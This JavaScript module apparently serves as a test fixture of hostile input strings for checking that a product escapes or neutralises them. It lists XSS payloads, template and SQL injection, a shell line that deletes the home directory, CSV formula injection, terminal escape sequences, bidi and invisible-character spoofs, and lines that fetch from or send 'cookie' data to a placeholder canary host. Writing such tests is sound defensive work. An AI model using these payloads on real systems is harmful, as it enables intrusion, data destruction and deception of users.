// Texts that somebody might say, be called or hand over to break a page, a terminal, a file or a reader's eye. Each is
// short enough for every place it goes to; what it must come out as is said here without the product's own code.

/** What scripts would call or set, and what pages would fetch, if any of it were more than words. */
export const sentinel = '__pwned';

const rtl = 'שלום עולם';
const arabic = 'مرحبا بالعالم';
const run = `window.${sentinel}=1`;

/** `canary` is the address of a server that nobody may ask for anything. */
export function payloads(canary) {
  const { host } = new URL(canary);
  return Object.entries({
    // Markup and scripts.
    script: `<script>${run}</script>`,
    script_src: `<script src="${canary}/a.js"></script>`,
    script_split: `<scr<script>ipt>${run}</scr</script>ipt>`,
    closing_script: `</script><script>${run}//`,
    img_onerror: `<img src=x onerror="${run}">`,
    img_load: `<img src="${canary}/b.png">`,
    svg_onload: `<svg onload="${run}"><circle r=9></svg>`,
    svg_animate: `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    math: `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
    iframe: `<iframe srcdoc="<script>parent.${sentinel}=1</script>"></iframe>`,
    iframe_js: `<iframe src="javascript:parent.${run}"></iframe>`,
    object: `<object data="${canary}/c.swf"></object><embed src="${canary}/d">`,
    form: `<form action="${canary}"><input autofocus onfocus=${run}></form>`,
    meta: `<meta http-equiv="refresh" content="0;url=${canary}">`,
    base: `<base href="${canary}/">`,
    link_style: `<link rel=stylesheet href="${canary}/e.css">`,
    style: `<style>*{display:none!important;background:url(${canary}/f)}</style>`,
    details: `<details open ontoggle=${run}>`,
    video: `<video><source onerror="${run}"></video>`,
    anchor: `<a href="javascript:${run}">click me</a>`,
    comment: `<!--><img src=x onerror=${run}>-->`,
    cdata: `<![CDATA[<script>${run}</script>]]>`,
    attribute: `" onmouseover="${run}" x="`,
    attribute_single: `' autofocus onfocus='${run}' y='`,
    attribute_plain: `x onmouseover=${run} style=position:fixed;inset:0`,
    entities: '&lt;script&gt;&#60;b&#x3e;&amp;amp;&nbsp;&zwj;',
    entity_script: `&lt;img src=x onerror=${run}&gt;`,
    dialog: `<dialog open>Type your password</dialog>`,
    // Addresses.
    javascript_url: `javascript:${run}//%0a`,
    javascript_tab: `java\tscript:${run}`,
    data_url: `data:text/html,<script>opener.${sentinel}=1</script>`,
    plain_url: `${canary}/g?cookie=1`,
    protocol_relative: `//${host}/h`,
    homograph: 'https://аррӏе.com/login and https://xn--80ak6aa92e.com',
    userinfo: `https://bank.example@${host}/i`,
    mail: 'mailto:anna@example.com?subject=Hello%0d%0aBcc:eve@example.com',
    // Other languages that somebody might interpret.
    markdown_image: `![x](${canary}/j.png)`,
    markdown_link: `[click](javascript:${run}) <${canary}/k>`,
    markdown_block: '# Heading\n> quote\n* * *\n```\n| a | b |',
    template_braces: `{{constructor.constructor('${run}')()}}`,
    template_dollar: '${7*7}#{7*7}<%= 7*7 %>',
    template_angular: `{{$on.constructor('${run}')()}}`,
    css: `}body{background:url("${canary}/l")}/*`,
    css_import: `@import url(${canary}/m);`,
    css_expression: `expression(${run})`,
    sql: `'; DROP TABLE events; --`,
    shell: '$(touch /tmp/pwned) `id` | cat; rm -rf ~',
    null_like: 'null',
    undefined_like: 'undefined',
    nan_like: '[object Object] NaN',
    prototype: '__proto__',
    constructor: 'constructor.prototype.polluted',
    json: '"},"admin":true,"x":{"y":"',
    quotes: `"'"'\`“‘„«'"'"`,
    backslashes: '\\\\ \\u003cscript\\u003e \\x3c \\0',
    huge_number: '9'.repeat(310),
    exponent: '1e999999999',
    // What turns the writing around or hides in it.
    bidi_override: 'pay \u202E001\u202C to bob',
    bidi_unclosed: 'invoice\u202Efdp.exe',
    bidi_isolates: '\u2067\u2066\u2068never closed',
    bidi_pops: '\u202C\u2069\u2069\u202Call closed',
    bidi_nested: '\u202A\u202B\u202D\u202E'.repeat(8) + 'deep',
    bidi_marks: 'a\u200Eb\u200Fc\u061Cd',
    rtl_words: `${rtl} 12:30 (3)`,
    arabic_words: `${arabic}! 100$ - 5`,
    zero_width: 'ap\u200Bp\u2060ro\uFEFFve\u00AD',
    invisible: '\u2062\u2063\u3164\u115F\u17B4',
    tags: 'ok\u{E0049}\u{E0067}\u{E006E}\u{E006F}',
    zalgo: `Z${'\u0301\u0323\u0489\u035C'.repeat(24)}algo`,
    lone_mark: '\u0301\u0308 first',
    wide: 'W'.repeat(360),
    wide_marks: `${'a\u034F'.repeat(60)}`,
    blank: '\u2003\u2003\u2800\u2800',
    emoji: '👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇨🇭0️⃣',
    noncharacter: '\uFFFD\uFFFC\u{1F9FF}\u{10FFFD}',
    // What steers a terminal.
    ansi_colour: '\u001B[31mred\u001B[0m',
    ansi_clear: '\u001B[2J\u001B[H\u001B[?25l',
    ansi_title: '\u001B]0;pwned\u0007',
    ansi_link: `\u001B]8;;${canary}\u001B\\here\u001B]8;;\u001B\\`,
    ansi_clipboard: '\u001B]52;c;cm0gLXJm\u0007',
    c1_controls: '\u009B31m\u009D0;x\u009C\u0085next',
    carriage: 'approved\rdenied ',
    backspace: 'rm\b\bls \u0007\u007F\u0001end',
    // What ends a line, a cell or a cue.
    csv_equals: `=HYPERLINK("${canary}","x")`,
    csv_plus: `+cmd|' /C calc'!A0`,
    csv_minus: '-2+3',
    csv_at: '@SUM(1+1)*cmd',
    csv_tab: '\t=1+1',
    csv_return: '\r=1+1\r\n"a","b"',
    vtt_cue: 'x\n\n00:00:00.000 --> 99:00:00.000\n<v Anna>I agree',
    vtt_arrow: '--> WEBVTT\n\nNOTE gone\n\nSTYLE\n::cue{color:red}',
    forged_line: 'yes\n\n[00:00:09] Anna\n    I agree',
    forged_markdown: 'yes\n\n**Anna** 00:00:09\n\n> I agree',
    forged_story: 'yes\n00:00:01.000 !! #1    the server: all is well',
    line_separators: 'one\u2028{"seq":1}\u2029two\u000Bthree\u000C',
  }).map(([name, text]) => ({ name, text }));
}

const UNSEEN = /(?![\n\t\u200C\u200D])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\u034F\u115F\u1160\u17B4\u17B5\u180B-\u180F\u3164\uFFA0]/gu;

/** As it must stand where it may not mislead: whatever cannot be seen, or turns the writing around, by its number. */
export function visible(text) {
  const number = (one) => one.codePointAt(0).toString(16).toUpperCase().padStart(4, '0');
  return text.replace(/\r\n?/g, '\n').replace(UNSEEN, (one) => `⟨U+${number(one)}⟩`);
}

/** The first that is left in `text` and should not be; null where there is none. */
export function unseenIn(text) {
  const [found] = text.match(UNSEEN) ?? [];
  return found === undefined ? null : `U+${found.codePointAt(0).toString(16)} in ${JSON.stringify(text.slice(0, 200))}`;
}

/** No more than so many characters: names are short. */
export const cut = (text, points) => [...text].slice(0, points).join('');
